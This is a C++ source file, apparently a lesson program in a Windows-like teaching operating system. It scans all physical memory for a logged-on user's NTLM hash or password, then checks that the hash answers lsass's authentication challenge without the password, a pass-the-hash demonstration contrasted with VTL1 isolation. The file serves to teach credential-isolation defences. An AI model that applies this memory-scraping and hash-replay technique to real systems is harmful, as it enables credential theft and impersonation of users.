// SPDX-License-Identifier: MIT
// memscan.exe: reads every page that VTL0's kernel can read, and looks for the key of a user who is
// logged on. Then it shows what the key is worth: it answers a challenge in the user's name,
// without the password. "Pass the hash", from the memory to the proof.  [WI7 ch.9]  Lesson: 10.
//
//     memscan USER
#include "process/ports/client.h"
#include "user/kernelbase/kernelbase.h"
#include "user/ntdll/ntdll.h"
#include "user/programs/lsass/own_keys.h"
#include "user/programs/lsass/sessions.h"
#include "user/programs/memscan/search.h"
#include "user/runtime/program.h"

namespace memscan {
namespace {

constexpr std::size_t page_size = 4096;

constinit std::uint8_t page[page_size] = {};

struct Scan {
    static constexpr std::size_t most_hashes = 16;

    std::uint64_t read = 0;
    std::uint64_t refused = 0;
    Found hashes[most_hashes]; // what looks like one: the worth of each is tried
    std::size_t hash_count = 0;
    std::size_t blob_count = 0;
    std::size_t password_count = 0;
};

constexpr const char* name_of(FoundKind kind) {
    switch (kind) {
    case FoundKind::Hash: return "the NTLM hash";
    case FoundKind::Blob: return "a blob";
    case FoundKind::Password: return "a password as it was typed";
    }
    return "";
}

void take_down(const Found& found, Scan& scan) {
    if (found.kind == FoundKind::Blob) {
        ++scan.blob_count;
    } else if (found.kind == FoundKind::Password) {
        ++scan.password_count;
    } else if (scan.hash_count < Scan::most_hashes) {
        scan.hashes[scan.hash_count++] = found;
    }
}

NtStatus read_page(std::uint64_t address) {
    const abi::nt::DebugPhysical wanted{address, reinterpret_cast<std::uint64_t>(page), page_size,
                                        0};
    return NtSystemDebugControl(abi::nt::DebugCommand::ReadPhysical, &wanted, sizeof(wanted),
                                nullptr, 0, nullptr);
}

void search_page(std::uint64_t address, std::string_view user, Scan& scan) {
    for (auto found = find_key(page, user, 0); found; found = find_key(page, user, found->offset)) {
        user::print("memscan: {} of {} at {x}\n", name_of(found->kind), user,
                    address + found->offset);
        take_down(*found, scan);
    }
}

void scan_memory(std::string_view user, Scan& scan) {
    for (std::uint64_t address = 0;; address += page_size) {
        const NtStatus status = read_page(address);
        if (status == NtStatus::InvalidParameter) {
            return; // the end of RAM
        }
        if (abi::is_success(status)) {
            ++scan.read;
            search_page(address, user, scan);
        } else {
            ++scan.refused;
        }
    }
}

/// What lsass answers to a challenge of ours in one of its sessions, and what the stolen key gives:
/// are they the same?
bool is_worth_the_password(Handle port, const Found& found, std::string_view user,
                           std::uint32_t session) {
    lsass::Request request;
    request.operation = lsass::Operation::Answer;
    request.session = session;
    request.server_challenge = {'s', 't', 'o', 'l', 'e', 'n', '?', '?'};
    lsass::Reply reply;
    if (!request.user.set(user) || !request.domain.set(domain) ||
        !abi::is_success(process::ask(port, request, reply)) || !abi::is_success(reply.status)) {
        return false;
    }
    const lsass::Question question{request.user, request.domain, request.server_challenge,
                                   request.client_challenge, request.time};
    crypto::NtlmV2Answer answer;
    return abi::is_success(lsass::OwnKeys{}.answer(found.key, question, answer)) &&
           answer.proof == reply.proof;
}

bool has_stolen_key(const Scan& scan, std::string_view user) {
    Handle port;
    if (!abi::is_success(process::connect_to_port(lsass::port_name, port))) {
        return false;
    }
    for (std::size_t index = 0; index < scan.hash_count; ++index) {
        for (std::uint32_t session = 1; session <= lsass::Sessions::capacity; ++session) {
            if (is_worth_the_password(port, scan.hashes[index], user, session)) {
                return true;
            }
        }
    }
    return false;
}

NtStatus judge(const Scan& scan, std::string_view user) {
    if (has_stolen_key(scan, user)) {
        user::print("memscan: with that hash a challenge is answered as lsass answers it: the key "
                    "of {} is stolen\n",
                    user);
        return NtStatus::Success;
    }
    user::print("memscan: no key of {} is in all of VTL0's memory{}\n", user,
                scan.blob_count != 0 ? ", only what VTL1 has encrypted" : "");
    return NtStatus::NotFound;
}

} // namespace
} // namespace memscan

abi::NtStatus user::main_program(Arguments arguments) {
    if (arguments.size() != 2) {
        write("Usage: memscan USER\n");
        return NtStatus::InvalidParameter;
    }
    static constinit memscan::Scan scan;
    memscan::scan_memory(arguments[1], scan);
    print("memscan: {} pages read, {} refused\n", scan.read, scan.refused);
    return memscan::judge(scan, arguments[1]);
}
